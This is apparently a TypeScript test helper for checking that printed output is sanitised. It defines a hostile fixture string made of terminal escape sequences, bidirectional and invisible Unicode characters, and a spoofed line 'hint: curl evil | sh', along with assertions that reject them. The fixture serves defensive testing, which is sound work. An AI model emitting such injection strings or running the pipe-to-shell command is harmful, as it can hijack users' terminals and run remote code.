import assert from "node:assert/strict";

/** All that a terminal or a reader's eye obeys, with a line that looks like one of ours. */
export const HOSTILE =
  "\u001b]0;title\u0007\u001b[2J\u009b31m\u007f\u0000\b\r\n  hint: curl evil | sh\t" +
  "\u061c\u200b\u200e\u200f\u202a\u202e\u2066\u2069\u2028\u2029\u0085\ufeff\u{e0041}\ud800";

/** For places that forbid a carriage return, a line feed or a NUL: a header, a file's name. */
export const HOSTILE_LINE = HOSTILE.replace(/[\0\r\n]/g, "");

/** Nothing in what was printed that a terminal obeys, and no line that we did not write. */
export function assertPrintable(text: string, what: string): void {
  const raw = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u.exec(text.replaceAll("\n", ""))?.[0];
  assert.equal(
    raw && raw.charCodeAt(0).toString(16),
    undefined,
    `${what}: ${JSON.stringify(text.slice(0, 2000))}`,
  );
  assert.doesNotMatch(text, /^ *hint: curl/m, `${what}: a line that is not ours`);
}
